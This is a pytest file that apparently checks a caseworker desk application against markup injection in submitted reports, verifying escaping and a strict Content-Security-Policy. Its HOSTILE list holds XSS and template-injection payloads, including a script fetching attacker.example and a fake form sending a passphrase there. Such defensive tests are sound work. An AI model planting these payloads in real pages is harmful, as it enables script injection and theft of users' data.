"""Threat: markup-in-a-report: A report carries HTML, scripts or template code to run on the
caseworker's desk; every word of a reporter reaches the page as text and as nothing else.
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from tests.support.desk import TestDesk, a_report, as_form, codes, desk

__all__ = ["desk"]

HOSTILE = [
    "<script>fetch('//attacker.example')</script>",
    '"><img src=x onerror=alert(1)>',
    "</blockquote><form action=//attacker.example><input name=passphrase>",
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "{{ request.META }}{% load i18n %}{% debug %}",
    "<!--<a href='https://attacker.example'>-->",
    "&lt;script&gt;",
    "<meta http-equiv=refresh content='0;url=//attacker.example'>",
]


class Tags(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.seen: list[tuple[str, tuple[str, ...]]] = []
        self.text: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, tuple(name for name, _ in attrs)))

    def handle_comment(self, data: str) -> None:
        self.seen.append(("comment", ()))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


@pytest.mark.parametrize("words", HOSTILE)
def test_hostile_words_are_shown_as_words(desk: TestDesk, words: str) -> None:
    calm, hostile = desk.take_in(
        a_report(answers={"story": "x", "contact": "y"}),
        a_report(answers={"story": words, "contact": words}),
    )
    calm_page = Tags(desk.client.get(f"/cases/{calm}/").text)
    hostile_page = Tags(desk.client.get(f"/cases/{hostile}/").text)
    # The same elements with the same attributes: the words have added none.
    assert hostile_page.seen == calm_page.seen
    assert "".join(hostile_page.text).count(words) == 2


@pytest.mark.parametrize("words", HOSTILE)
def test_the_inbox_and_the_history_show_no_words_of_the_reporter(
    desk: TestDesk, words: str
) -> None:
    case_id = desk.take_in(a_report(answers={"story": words, "acts": ("THR",)}))[0]
    desk.client.post(f"/cases/{case_id}/", as_form(codes()))
    for path in ("/cases/", "/cases/?lane=coded", "/journal/"):
        page = desk.client.get(path).text
        assert words not in page
        assert "attacker.example" not in page


def test_the_policy_would_stop_a_script_that_slipped_through(desk: TestDesk) -> None:
    case_id = desk.take_in(a_report())[0]
    policy = desk.client.get(f"/cases/{case_id}/")["Content-Security-Policy"]
    assert "default-src 'none'" in policy
    assert "unsafe" not in policy
    assert "form-action 'self'" in policy
    assert "base-uri 'none'" in policy
    assert "img-src 'self' data:" in policy  # no beacon to another host


def test_the_words_are_marked_as_a_strangers(desk: TestDesk) -> None:
    case_id = desk.take_in(a_report())[0]
    html = desk.client.get(f"/cases/{case_id}/").text
    assert '<blockquote class="own-words" lang="ru" dir="auto">Меня заманили' in html
    assert "unchecked" in html
